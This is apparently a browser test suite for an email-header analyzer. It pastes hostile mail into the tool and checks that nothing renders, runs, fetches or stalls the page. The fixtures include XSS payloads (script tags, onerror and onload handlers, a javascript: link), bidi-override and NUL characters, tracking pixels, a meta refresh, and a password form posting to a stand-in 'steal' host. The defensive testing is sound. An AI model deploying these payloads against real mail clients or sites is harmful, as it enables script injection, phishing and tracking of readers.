// Mail that attacks its reader: nothing of it may become an element, run, be fetched, turn the text around,
// or stop the page.
import { describe, test } from "node:test";
import assert from "node:assert/strict";
import {
  BROWSERS,
  TABS,
  click,
  complete,
  fileUrl,
  openPage,
  openTab,
  paste,
  reports,
  setUp,
  text,
} from "./support.mjs";

const MARKUP =
  '<script>globalThis.owned=1</script><img src=x onerror="globalThis.owned=2">' +
    '<svg onload="globalThis.owned=3"></svg>';
const hostile = [
  `Received: from ${MARKUP} (${MARKUP} [203.0.113.9]) by mx.example.org`,
  '\twith ESMTP id "><script>globalThis.owned=4</script>; Mon, 3 Nov 2025 07:21:07 +0000',
  `From: "${MARKUP.replaceAll('"', "'")}" <x@example.com>`,
  "Reply-To: =?utf-8?B?4oCuZXhlLmdwag==?= <a@example.net>",
  `Subject: ${MARKUP} \u202Ereversed\u2066 \u0000 end`,
  `Message-ID: <${MARKUP}@"><b>bold</b>>`,
  `X-Long: ${"a".repeat(200_000)}`,
  "MIME-Version: 1.0",
  "Content-Type: text/html; charset=utf-8",
  "",
  '<a href="javascript:globalThis.owned=5">click</a> ' +
    '<a href="https://203.0.113.77/x">https://bank.example/</a>',
  MARKUP,
  '<img src="https://tracker.example/pixel.gif"><link rel="stylesheet" href="https://tracker.example/a.css">',
  '<iframe src="https://tracker.example/"></iframe>',
  '<meta http-equiv="refresh" content="0;url=https://tracker.example/">',
  '<form action="https://tracker.example/steal"><input name=password></form>',
  "",
].join("\r\n");

for (const name of BROWSERS) {
  describe(`hostile mail in ${name}`, () => {
    const its = setUp(name);

    test("stays text", async () => {
      const page = await openPage(its.browser, fileUrl("whence.html"), { language: "en" });
      await reports(page);
      await paste(page, hostile);
      await complete(page);
      for (const tab of TABS) {
        await openTab(page, tab);
        await new Promise((resolve) => setTimeout(resolve, 200));
        assert.equal(await page.evaluate(() => globalThis.owned), undefined);
        const tree = await page.evaluate(() => {
          const all = [...document.querySelector("whence-analyzer").shadowRoot.querySelectorAll("*")];
          return {
            names: [...new Set(all.map((element) => element.localName))],
            links: all
              .filter((element) => element.hasAttribute("href"))
              .map((element) => new URL(element.href).host),
            sources: all.filter((element) => element.hasAttribute("src") || element.hasAttribute("srcset"))
              .length,
            handlers: all.filter(
              (element) =>
                element.getAttributeNames().some((attribute) => attribute.startsWith("on")) ||
                !/^(order: -?\d+;)?$/.test(element.getAttribute("style") ?? ""),
            ).length,
          };
        });
        for (const forbidden of ["script", "img", "iframe", "object", "embed", "link", "meta", "b"]) {
          assert.ok(!tree.names.includes(forbidden), `<${forbidden}> came into the page`);
        }
        // The only links are to services that look a name up; none leads where the mail wants.
        const services = [
          "whois.jprs.jp",
          "lookup.icann.org",
          "urlscan.io",
          "www.virustotal.com",
          "transparencyreport.google.com",
          "global.sitesafety.trendmicro.com",
        ];
        assert.deepEqual(
          tree.links.filter((host) => !services.includes(host)),
          [],
        );
        assert.equal(tree.sources, 0);
        assert.equal(tree.handlers, 0);
      }
      await openTab(page, "text");
      assert.match(
        await text(page, ".source"),
        /<script>globalThis\.owned=4<\/script>/,
        "the source shows the attack as text",
      );
      assert.deepEqual(page.seen.requests, []);
      assert.deepEqual(await page.violations(), []);
      assert.deepEqual(page.seen.problems, []);
      await page.close();
    });

    test("has no address that could be opened as it is shown", async () => {
      const page = await openPage(its.browser, fileUrl("whence.html"), { language: "en" });
      await reports(page);
      await paste(page, hostile);
      await openTab(page, "domains");
      const shown = await page.evaluate(() =>
        [...document.querySelector("whence-analyzer").shadowRoot.querySelectorAll(".link-list .href")].map(
          ({ textContent }) => textContent,
        ),
      );
      assert.ok(shown.length > 5, "addresses are shown");
      for (const address of shown) assert.doesNotMatch(address, /https?:|\w\.\w/);
      await page.close();
    });

    test("cannot turn the text around or hide in it", async () => {
      const page = await openPage(its.browser, fileUrl("whence.html"), { language: "en" });
      await reports(page);
      await paste(page, hostile);
      await complete(page);
      for (const tab of TABS) {
        await openTab(page, tab);
        const shown = await page.evaluate(
          () => document.querySelector("whence-analyzer").shadowRoot.querySelector(".result").textContent,
        );
        assert.doesNotMatch(shown, /[\u202a-\u202e\u2066-\u2069\u0000]/);
      }
      await openTab(page, "text");
      assert.match(await text(page, ".source"), /RLO/);
      assert.match(await text(page, ".source"), /NUL/);
      await page.close();
    });

    test("has no value that fills the page: what is left out is counted", async () => {
      const page = await openPage(its.browser, fileUrl("whence.html"), { language: "en" });
      await reports(page);
      const long = "a".repeat(50_000);
      await paste(page, [
        `Received: from ${long} (unknown [203.0.113.9]) by mx.example.org with ESMTP id 1`,
        "\tfor <anna@example.org>; Mon, 3 Nov 2025 07:21:07 +0000",
        `From: "${long}" <x@${long}.example.com>`,
        `Message-ID: <${long}@example.com>`,
        "",
        "x",
      ].join("\r\n"));
      await complete(page);
      let counted = 0;
      for (const tab of TABS) {
        await openTab(page, tab);
        const [longest, told] = await page.evaluate(() => {
          const { shadowRoot } = document.querySelector("whence-analyzer");
          const values = [...shadowRoot.querySelectorAll("bdi")].map((value) => value.textContent);
          return [
            Math.max(...values.map((value) => value.length)),
            values.filter((value) => /… \+4\d{4}$/.test(value.trim())).length,
          ];
        });
        assert.ok(longest > 100 && longest < 2100, `${tab}: ${longest}`);
        counted += told;
      }
      assert.ok(counted > 0);
      await page.close();
    });

    test("of 25 MB is judged, and only its beginning is drawn", async () => {
      const page = await openPage(its.browser, fileUrl("whence.html"), { language: "en" });
      await reports(page);
      await page.evaluate(async () => {
        const source = `From: a@example.com\r\n` +
          `Subject: long\r\n\r\n${`${"x".repeat(76)}\r\n`.repeat(320_000)}`;
        await document.querySelector("whence-analyzer").analyze(source);
      });
      await complete(page);
      await openTab(page, "text");
      const lines = () =>
        page.evaluate(
          () => document.querySelector("whence-analyzer").shadowRoot.querySelectorAll(".source-line").length,
        );
      const first = await lines();
      assert.ok(first < 2000, `${first} lines are drawn`);
      await page.evaluate(() =>
        document.querySelector("whence-analyzer").shadowRoot.querySelector(".source-gap button").click(),
      );
      await page.waitForFunction(
        (count) =>
          document.querySelector("whence-analyzer").shadowRoot.querySelectorAll(".source-line").length >
          count,
        {},
        first,
      );
      await page.close();
    });

    test("of many lines and links: the first are drawn, the others told and a click away", async () => {
      const many = (count, piece) => Array.from({ length: count }, (_, i) => piece(i)).join("");
      const hops = many(
        600,
        (i) =>
          `Received: from m${i}.example.net (m${i}.example.net [203.0.113.${i % 250}])\r\n` +
          `\tby r${i}.example.org with ESMTP id ${i}; Mon, 3 Nov 2025 07:21:07 +0000\r\n`,
      );
      const links = many(1500, (i) => `<a href="https://h${i}.site${i}.example/">w ${i}</a>\r\n`);
      const head = "From: a@example.com\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n";
      const page = await openPage(its.browser, fileUrl("whence.html"), { language: "en" });
      await reports(page);
      await paste(page, `${hops}${head}${links}`);
      await complete(page);
      const report = await page.evaluate(() => globalThis.lastReport);
      const count = (selector) =>
        page.evaluate(
          (wanted) => document.querySelector("whence-analyzer").shadowRoot.querySelectorAll(wanted).length,
          selector,
        );
      for (const [tab, place, item, all] of [
        ["route", ".hops-more", ".hop", report.hops.length],
        ["domains", "[aria-labelledby=links]", ".link-list > li", null],
        ["text", ".mail-text", ".anchor", null],
      ]) {
        await openTab(page, tab);
        const before = await count(`${place} ${item}`);
        assert.ok(before > 5 && before < 700, `${tab}: ${before} are drawn`);
        const button = `${place} > .more-of-list`;
        assert.match(await text(page, button), /^\s*Show \d+ more/, tab);
        await click(page, button);
        await page.waitForFunction(
          (wanted, old) =>
            document.querySelector("whence-analyzer").shadowRoot.querySelectorAll(wanted).length > old,
          {},
          `${place} ${item}`,
          before,
        );
        for (let i = 0; all && i < 20 && (await text(page, button)) !== null; i++) await click(page, button);
        if (all) assert.equal(await count(`${place} ${item}`), all, `${tab}: all of them in the end`);
      }
      assert.ok((await count("*")) < 30_000);
      await page.close();
    });

    test("with a header of one endless line does not stop the page", async () => {
      const page = await openPage(its.browser, fileUrl("whence.html"), { language: "en" });
      await reports(page);
      const answers = await page.evaluate(async () => {
        let count = 0;
        const beat = setInterval(() => (count += 1), 1);
        await document
          .querySelector("whence-analyzer")
          .analyze(`Received: from ${"(".repeat(500_000)}${"a.".repeat(250_000)}\r\nFrom: a@example.com\r\n`);
        clearInterval(beat);
        return count;
      });
      await complete(page);
      assert.ok(answers > 3, "timers ran meanwhile");
      assert.ok((await text(page, "#verdict-title")).length < 2500, "and little of it is drawn");
      await openTab(page, "text");
      const drawn = (await text(page, ".source")).length;
      assert.ok(drawn < 120_000, `${drawn} letters of the source are drawn`);
      await page.close();
    });
  });
}
